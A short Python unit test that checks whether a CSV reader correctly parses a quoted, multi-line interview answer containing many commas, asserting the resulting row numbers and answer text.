def test_multi_line_answers_full_of_commas_are_read_not_refused(tmp_path):
    text = (
        "interview_id,account_id,question,answer\n"
        'I1,A1,opinion,"Good, fast, cheap, friendly.\nSlow at times, late once, twice, maybe.\nFine."\n'
        "I2,A2,opinion,Great\n"
        "I3,A3,opinion,-\n"
    )
    raw = read_file(_write(tmp_path / "interviews.csv", text))
    assert raw.rows.tolist() == [2, 5, 6]
    assert raw.frame["answer"].iloc[0].startswith("Good, fast")
